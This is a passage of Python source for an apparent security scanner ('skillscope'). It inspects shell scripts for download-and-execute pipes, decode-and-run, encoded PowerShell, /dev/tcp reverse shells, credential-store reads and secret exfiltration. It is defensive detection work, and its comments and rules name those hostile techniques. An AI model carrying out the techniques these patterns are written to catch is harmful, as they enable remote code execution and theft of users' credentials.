    script = parse_script(_zsh_flags_read(ctx.text), ctx.skill_files, ctx.path, args)
    if script.cut:
        ctx.add(CUT, f"a shell value grew past {TEXT_CAP:,} characters and was read only that far", 0, 1)
    flow = _Flow()
    flow.vars.update(ctx.secret_vars)  # a CI step's env from the repository's secrets
    persist = _Persist()
    code_vars: dict[str, tuple[str, str]] = {}
    socket_open = False
    for pipeline in script.pipelines:
        checked = _checked_file(ctx, pipeline)
        if checked is not None:
            for name, (kind, _origin, _line) in flow.files.items():
                if kind == "download" and name.removeprefix("./") == checked.removeprefix("./"):
                    flow.verified[name] = ctx.line(pipeline[-1][-1].start)
        secret: tuple[str, int, str | None] | None = None
        downloaded: str | None = None
        decoded = False
        fed_from: int | None = None  # where the download or decode that feeds this pipeline's interpreter starts
        sends_later = any(_sends(c, ctx) for stage in pipeline for c in stage)
        for stage in pipeline:
            for cmd in stage:
                for name, _value, subs in cmd.assigns:
                    # x=$(curl -H "Authorization: Bearer $TOKEN" URL) holds what the host answered, not the token (a
                    # send of the token is judged at the request itself)
                    found = next((s for s in (_pipeline_source(ctx, flow, _after_answer(p)) for p in subs) if s), None)
                    if found:
                        flow.vars[name] = found[:2]
                        if found[2] and found[2] != "\x00script":
                            flow.var_items[name] = found[2]  # the named keychain item or token tool it holds
                        else:
                            flow.var_items.pop(name, None)
                    inner = [c for p in subs for st in p for c in st]
                    fetch = next((c for c in inner if _is_downloader(c) and not _sends(c, ctx)), None)
                    if fetch is not None:
                        code_vars[name] = ("download", _url_of(fetch) or "the network")
                    elif any(_is_decoder(c) for c in inner):
                        code_vars[name] = ("decode", "")
                if cmd.name in ("read", "mapfile", "readarray"):
                    found = _source(ctx, flow, cmd) or _impersonated_prompt(ctx, cmd) or _hidden_prompt(ctx, cmd)
                    if found:
                        said = {i + 1 for i, a in enumerate(cmd.args) if a.startswith("-") and a.endswith("p")}
                        for arg in [a for i, a in enumerate(cmd.args) if i not in said]:  # not the -p prompt's text
                            if re.fullmatch(r"[A-Za-z_]\w*", arg):
                                flow.vars[arg] = found[:2]
                                if found[2]:
                                    flow.var_items[arg] = found[2]
                    continue
                sending = _sends(cmd, ctx) or _ssh_sends(cmd, pipeline.index(stage) > 0)
                _record(ctx, cmd, sending)
                _serves(ctx, cmd)
                if cmd.name == "exec" and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects):
                    socket_open = True
                if any(_reverse_shell(ctx, c, socket_open) for c in ([cmd] if cmd.name in INTERPRETERS else [])):
                    continue
                if cmd.name not in INTERPRETERS and _reverse_shell(ctx, cmd):
                    continue
                _inline_code(ctx, cmd)
                _stdin_code(ctx, cmd)
                _runs_shipped(ctx, cmd, depth)
                if cmd.name == "source_url" and cmd.args:
                    _direnv_fetch(ctx, cmd)
                _destroys(ctx, cmd, script.assigned)
                _pushes_out(ctx, cmd)
                _installs(ctx, cmd)
                _privilege(ctx, cmd, pipeline, persist)
                _index_redirect(ctx, cmd)
                if cmd.name in ("powershell", "pwsh", "powershell.exe", "pwsh.exe") and any(
                    a.lower() in ("-enc", "-encodedcommand", "-e", "-ec", "-en") for a in cmd.args
                ):
                    ctx.add(
                        "skillscope/obfuscation/decode-exec",
                        "runs a base64-encoded PowerShell command (-EncodedCommand)",
                        cmd.start,
                        cmd.end,
                    )
                runs = _runs_stdin(cmd) or cmd.name == "eval"
                # The finding covers the whole pipe (`curl … | sh`) when it is on one line: that is what a reader checks.
                piped_from = (
                    fed_from if fed_from is not None and ctx.line(fed_from) == ctx.line(cmd.start) else cmd.start
                )
                if runs and downloaded is not None:
                    ctx.add(
                        "skillscope/obfuscation/download-exec",
                        f"runs what it downloads from {safe_line(downloaded, limit=100)}",
                        piped_from,
                        cmd.end,
                        installer_severity(ctx, downloaded),
                    )
                elif runs and decoded:
                    ctx.add(
                        "skillscope/obfuscation/decode-exec", "decodes hidden content and runs it", piped_from, cmd.end
                    )
                executes_text = cmd.name == "eval" or (
                    cmd.name in INTERPRETERS and (any(a in _STDIN_CODE for a in cmd.args) or cmd.stdin is not None)
                )
                if executes_text:
                    words = [*cmd.args, cmd.stdin or ""]
                    for var, (kind, origin) in code_vars.items():
                        if any(re.search(rf"\$\{{?{re.escape(var)}\b", w) for w in words):
                            if kind == "download":
                                ctx.add(
                                    "skillscope/obfuscation/download-exec",
                                    f"runs what it downloads from {safe_line(origin, limit=100)} (kept in ${var})",
                                    cmd.start,
                                    cmd.end,
                                    installer_severity(ctx, origin),
                                )
                            else:
                                ctx.add(
                                    "skillscope/obfuscation/decode-exec",
                                    f"decodes hidden content into ${var} and runs it",
                                    cmd.start,
                                    cmd.end,
                                )
                            break
                if cmd.name in INTERPRETERS or cmd.name == "eval":
                    for sub in cmd.subs:
                        inner = [c for st in sub for c in st]
                        fetch = next((c for c in inner if _is_downloader(c)), None)
                        if fetch is not None:
                            url = _url_of(fetch) or "the network"
                            ctx.add(
                                "skillscope/obfuscation/download-exec",
                                f"runs what it downloads from {safe_line(url, limit=100)}",
                                cmd.start,
                                cmd.end,
                                installer_severity(ctx, url),
                            )
                            break
                        if any(_is_decoder(c) for c in inner):
                            ctx.add(
                                "skillscope/obfuscation/decode-exec",
                                "decodes hidden content and runs it",
                                cmd.start,
                                cmd.end,
                            )
                            break
                for name, (kind, origin, line) in flow.files.items():
                    if _runs_file(cmd, name) and name in flow.verified and kind == "download":
                        # a capability, said as one: the content that runs is the content the digest pins
                        ctx.add(
                            "skillscope/obfuscation/download-exec",
                            f"runs {safe_line(name, limit=80)}, downloaded from {origin} on line {line} and {_PINNED} "
                            f"(line {flow.verified[name]})",
                            cmd.start,
                            cmd.end,
                            "note",
                        )
                        break
                    if _runs_file(cmd, name):
                        check = (
                            "skillscope/obfuscation/download-exec"
                            if kind == "download"
                            else "skillscope/obfuscation/decode-exec"
                        )
                        ctx.add(
                            check,
                            f"runs {safe_line(name, limit=80)}, written by {origin} on line {line}",
                            cmd.start,
                            cmd.end,
                            installer_severity(ctx, origin) if kind == "download" else None,
                        )
                        break
                own = _source(ctx, flow, cmd)
                source = secret or own
                if (
                    source is not None
                    and not sending
                    and stage is pipeline[-1]
                    and (cmd.name in _READERS or cmd.name in ("echo", "printf", "tr", "xxd", "cut"))
                    and cmd.name not in ("cp", "ls", "find")
                    and not any(op in (">", ">>", "&>") and not t.startswith("/dev/std") for op, t in cmd.redirects)
                ):  # printed to the script's output: whoever captures that output holds the secret
                    ctx.stdout_secrets.append((cmd.start, cmd.end, f"{source[0]} (line {source[1]})"))
                if sending:
                    ctx.network = True
                    reads = (
                        source is not None
                        or _uploads(cmd)
                        or any(c.name in _READERS for st in pipeline[: pipeline.index(stage)] for c in st)
                    )
                    named = _named_host(_url_of(cmd))
                    ctx.sends.append((cmd.start, cmd.end, "upload" if reads and named else "network"))
                verb = _git_verb(cmd)
                if (
                    verb in ("commit", "tag", "notes", "add")
                    and source is not None
                    and flow.committed is None
                    and not (source[2] or "").startswith(PRIVATE)  # the user's name from ~/.gitconfig for a commit
                ):
                    flow.committed = (f"{source[0]} (line {source[1]}) into a git {verb}", ctx.line(cmd.start))
                staged = _staged_secret(cmd, verb, flow) if source is None and flow.committed is None else None
                if staged is not None:
                    flow.committed = (f"{staged[0]} (line {staged[1]}) into a git {verb}", ctx.line(cmd.start))
                    judge_staged(ctx, _git_dir(cmd), verb, staged, cmd.start, cmd.end)
                if verb == "push" and flow.committed is not None and source is None:
                    ctx.network = True
                    _report_flow(ctx, cmd, (flow.committed[0], flow.committed[1], None))
                if sending and source is not None:
                    _report_flow(ctx, cmd, source)
                elif (
                    own is not None
                    and (own[2] is None or own[2].startswith(ITEM))
                    and own[0] != "reads the whole environment"
                    and _tainted_file(flow, cmd) is None
                    and not sends_later
                    and not _carried(ctx, flow, cmd, own)
                ):
                    names_only = _names_only(cmd)
                    store = ("credential store" in own[0] or is_store(own[0])) and not _one_item(cmd) and not names_only
                    # a page describing a look-up of one item (`security find-generic-password -w`) tells no one to
                    # empty the store
                    store = store and not (ctx.documented and _ONE_LOOKUP.search(" ".join(cmd.words)))
                    # the region and profile names (no secret), the one keychain item a tool saved for itself, or the
                    # keychain's item names without their secrets
                    settings = ".aws/config" in own[0] or _one_item(cmd) or "/environ" in own[0] or names_only
                    # counting the commands in the user's own history is an ordinary local report; only its send harms
                    settings = settings or "_history" in own[0] or "HISTFILE" in own[0] or "(history)" in own[0]
                    # A page telling the reader to look at their own config is not the skill reading it.
                    level: Severity | None = (
                        ("warning" if store else "note")
                        if ctx.documented
                        else ("error" if store else "note" if settings else None)
                    )
                    ctx.add("skillscope/exfiltration/credential-read", own[0], cmd.start, cmd.end, level)
                secret = secret or own
                if secret is not None and cmd.name == "logger":  # logger "$pw": the system log keeps it
                    judge_kept(ctx, [secret], None, cmd.start, cmd.end, log="the system log (logger)")
                for target in _secret_written(cmd, secret):
                    flow.secret_files.setdefault(target, (secret[0], secret[1]) if secret else ("", 0))
                    if secret is not None:  # a typed password kept where no login reads it
                        judge_kept(ctx, [secret], target, cmd.start, cmd.end)
                    synced = synced_folder(target)
                    if secret is not None and synced and not sending:
                        ctx.network = True
                        ctx.add(
                            "skillscope/exfiltration/data-flow",
                            f"{secret[0]} (line {secret[1]}) and copies it into {safe_line(synced, limit=60)}, "
                            f"a folder that syncs off the machine (line {ctx.line(cmd.start)})",
                            cmd.start,
                            cmd.end,
                        )
                _persistence(ctx, cmd, pipeline, flow, persist, depth)
                written = _written(cmd)
                if (
                    written
                    and (_is_downloader(cmd) or _is_decoder(cmd) or downloaded or decoded)
                    and "/dev/" not in written
                ):
                    kind = "download" if _is_downloader(cmd) or downloaded else "decode"
                    origin = (_url_of(cmd) or downloaded or cmd.name) if kind == "download" else " ".join(cmd.words[:2])
                    flow.files[written] = (kind, origin, ctx.line(cmd.start))
                    flow.verified.pop(written, None)
            # a download that also sends (machine facts in its URL, a form) still prints what it fetches to the pipe
            if any(_is_downloader(c) and _written(c) is None for c in stage):
                downloaded = next((_url_of(c) for c in stage if _is_downloader(c)), None) or "the network"
                if fed_from is None:
                    fed_from = next(c.start for c in stage if _is_downloader(c))
            if any(_is_decoder(c) for c in stage):
                decoded = True
                if fed_from is None:
                    fed_from = next(c.start for c in stage if _is_decoder(c))
